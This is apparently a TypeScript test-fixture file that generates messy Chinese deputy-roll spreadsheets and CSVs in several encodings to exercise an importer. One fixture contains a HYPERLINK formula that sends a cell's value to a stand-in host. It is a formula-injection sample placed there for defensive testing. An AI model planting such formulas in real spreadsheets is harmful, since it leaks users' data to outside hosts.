import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { encodeGb18030, encodeUtf8, encodeUtf16 } from '../support/chinese-encodings.ts';
import { makeWorkbook } from '../support/workbook.ts';

/**
 * Writes texts into the cells of a template, as somebody who fills it in does: the cells keep their
 * format and everything else in the file stays.
 */
export function fillTemplate(
  template: Uint8Array,
  rows: readonly (readonly string[])[],
): Uint8Array {
  const parts = unzipSync(template);
  const path = 'xl/worksheets/sheet1.xml';
  let sheet = strFromU8(parts[path] ?? new Uint8Array());
  rows.forEach((cells, row) => {
    cells.forEach((text, column) => {
      const place = `${String.fromCharCode(65 + column)}${row + 2}`;
      const empty = new RegExp(`<c r="${place}" s="(\\d+)"/>`);
      if (!empty.test(sheet)) throw new Error(`the template has no prepared cell ${place}`);
      if (text === '') return;
      sheet = sheet.replace(
        empty,
        `<c r="${place}" s="$1" t="inlineStr"><is><t>${text}</t></is></c>`,
      );
    });
  });
  return zipSync({ ...parts, [path]: strToU8(sheet) });
}

/** Rolls as offices really send them; each must be read completely right. */
export const messyRolls: Readonly<Record<string, () => Uint8Array>> = {
  'titles above, blank rows between, headings repeated on each page, totals and notes below': () =>
    makeWorkbook([
      {
        name: '名册',
        rows: [
          ['青石镇第十九届人民代表大会代表名册'],
          [null, null, null, '2026年1月'],
          [],
          ['序号', '姓 名', '性 别', '代　表　团'],
          [1, '张伟', '男', '一团'],
          [2, '王芳', '女', '一团'],
          [null],
          ['序号', '姓 名', '性 别', '代　表　团'],
          [3, '李娜', '女', '二团'],
          ['合计', '3人'],
          ['注：本名册按姓氏笔画排列。'],
          ['填表人：周某', null, '审核：吴某'],
        ],
        merges: ['A1:D1', 'A11:D11'],
      },
    ]),
  'two rows of headings in groups, delegations merged over their deputies': () =>
    makeWorkbook([
      {
        rows: [
          ['代表名册', null, null, null, null, null, null],
          ['序号', '代表团', '基本情况', null, '单位及\n职务', '联系', null],
          [null, null, '姓名', '性别', null, '手机号码', '备注'],
          [1, '城关代表团', '赵敏', '女', '城关小学教师', '13800000001', null],
          [2, null, '钱进', '男', '城关村党支部书记', '13800000002', '党员'],
          [3, null, '孙 丽', '女', '县医院护士', null, null],
          [4, '南山代表团', '周強', '男', '南山村村民', null, null],
          [5, null, '吴　刚', '男', '南山茶厂厂长', '13800000005', null],
        ],
        merges: ['A1:G1', 'A2:A3', 'B2:B3', 'C2:D2', 'E2:E3', 'F2:G2', 'B4:B6', 'B7:B8'],
      },
    ]),
  'full-width digits, spaces inside names, marks left by copied telephone numbers': () =>
    makeWorkbook([
      {
        rows: [
          ['序号＊', '姓名（必填）', '性别：', '代表证号', '联系电话'],
          ['１', '张　伟', '男 ', '００３１', '\u202d１３８００００００１１\u202c'],
          ['２', '王\u00a0芳', '女', ' 0032', '138-0000-0012'],
          ['３', '李 小 明', ' 男', '0033', '+86 138 0000 0013'],
          ['４', '欧阳\n锋', '男', '0034', '0571-88880000'],
          ['５', '司马\u200b光', '男', '0035', null],
        ],
      },
    ]),
  'names with every kind of dot, rare characters and letters': () =>
    makeWorkbook([
      {
        rows: [
          ['姓名', '备注'],
          ['阿卜杜拉·买买提', null],
          ['古丽娜尔•艾则孜', null],
          ['巴图．苏和', null],
          ['迪丽拜尔 ・ 吐尔逊', null],
          ['𠮷田', '上“士”下“口”'],
          ['刘䶮', null],
          ['陈〇', null],
          ['𬱖颖', null],
          ['Anna  Wang', '侨眷'],
        ],
      },
    ]),
  'two deputies of one name told apart by delegation, and two by their numbers': () =>
    makeWorkbook([
      {
        rows: [
          ['代表团', '姓名', '代表证号'],
          ['一团', '张伟', 1],
          ['二团', '张伟', 2],
          ['三团', '李娜', 3],
          ['三团', '李娜', 4],
        ],
      },
    ]),
  'delegations as rows between, with how many they have': () =>
    makeWorkbook([
      {
        rows: [
          ['序号', '姓名', '性别'],
          ['一、第一代表团（2人）', null, null],
          [1, '张伟', '男'],
          [2, '王芳', '女'],
          ['二、第二代表团(1人)', null, null],
          [3, '李娜', '女'],
          ['共计：3人', null, null],
        ],
        merges: ['A2:C2', 'A5:C5', 'A7:C7'],
      },
    ]),
  'other order of columns, unit and position apart, columns that are not wanted': () =>
    makeWorkbook([
      {
        rows: [
          ['姓名', '民族', '出生年月', '工作单位', '职务', '选举单位', '所属代表团'],
          ['张伟', '汉', '1980.05', '青石村', '党支部书记', '第一选区', '一团'],
          ['王芳', '畲', '1975.11', '镇卫生院', null, '第二选区', '一团'],
          ['李娜', '汉', '1990.01', null, '个体工商户', '第三选区', '二团'],
        ],
      },
    ]),
  'numbers kept as text, texts kept as numbers, numbers shown with leading zeros': () =>
    makeWorkbook([
      {
        rows: [
          ['序号', '姓名', '代表证号', '手机'],
          ['1', '张伟', { number: 31, format: '0000' }, 13800000021],
          [2, '王芳', '0032', '13800000022'],
          ['3.', '李娜', { number: 33, format: '"青"000' }, { number: 13800000023, format: '0' }],
          [{ number: 4, format: '0_ ' }, '周杰', 34, null],
        ],
      },
    ]),
  'rich text with a pinyin guide over it': () =>
    makeWorkbook([
      {
        rows: [
          [{ runs: ['姓', '名'], phonetic: 'xingming' }, '单位及职务'],
          [
            { runs: ['仇', '英'], phonetic: 'qiuying' },
            { runs: ['画院', '院长'], phonetic: 'hua' },
          ],
          ['单雄信', '农民'],
        ],
      },
    ]),
  'formulas: kept as text where text may stand, texts protected as ="…"': () =>
    makeWorkbook([
      {
        rows: [
          ['姓名', '代表证号', '备注'],
          ['张伟', { formula: '"0031"', result: '0031' }, null],
          [
            '王芳',
            '0032',
            { formula: 'HYPERLINK("http://example.invalid/?"&A2,"点这里")', result: '点这里' },
          ],
        ],
      },
    ]),
  'thousands of formatted empty rows, a hidden sheet with an older roll, a sheet of remarks': () =>
    makeWorkbook([
      { name: '旧名册', hidden: true, rows: [['姓名'], ['旧代表']] },
      {
        name: '代表',
        rows: [
          ['姓名', '性别'],
          ['张伟', '男'],
          ['王芳', '女'],
        ],
        formattedRows: 20_000,
      },
      { name: '要求', rows: [['请于周五前报送。'], ['联系人：周某']] },
    ]),
  'CSV in UTF-8 with its mark, quotes and Windows line ends': () =>
    encodeUtf8(
      '\ufeff序号,代表团,姓名,单位及职务\r\n1,一团,张伟,"青石村党支部书记,村委会主任"\r\n2,一团,王 芳,"镇卫生院\r\n院长"\r\n,,,\r\n',
    ),
  'CSV in GBK': () =>
    encodeGb18030(
      '序号,代表团,姓名,性别,备注\r\n1,一团,张伟,男,\r\n2,二团,阿依古丽·买买提,女,“优秀代表”\r\n',
    ),
  'CSV in GB 18030 with a character of four bytes': () =>
    encodeGb18030('姓名,选区\n𠮷祥,第一选区\n刘䶮,第二选区\n'),
  'text with tabs in UTF-16, as “Unicode 文本” is saved': () =>
    encodeUtf16('代表名册\t\t\r\n序号\t姓名\t代表证号\r\n1\t张伟\t0031\r\n2\t𠮷祥\t0032\r\n'),
  'CSV with semicolons, numbers protected from a spreadsheet': () =>
    encodeUtf8('序号;姓名;代表证号;手机\n1;张伟;"=""0031""";\'13800000031\n2;王芳;="0032";\n'),
};
